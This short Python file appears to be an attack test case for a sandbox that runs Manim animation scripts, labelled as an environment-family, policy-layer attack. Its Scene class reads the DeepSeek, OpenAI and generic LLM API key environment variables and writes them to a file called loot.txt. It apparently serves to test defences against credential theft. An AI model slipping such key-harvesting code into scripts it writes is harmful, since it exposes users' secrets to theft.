# family: environment
# layer: policy
# attack: os.getenv of the key names
import os
from manim import *


class Attack(Scene):
    def construct(self):
        open("loot.txt", "w").write(str([os.getenv(k) for k in ("DEEPSEEK_API_KEY", "LLM_API_KEY", "OPENAI_API_KEY")]))
        self.wait(0.1)
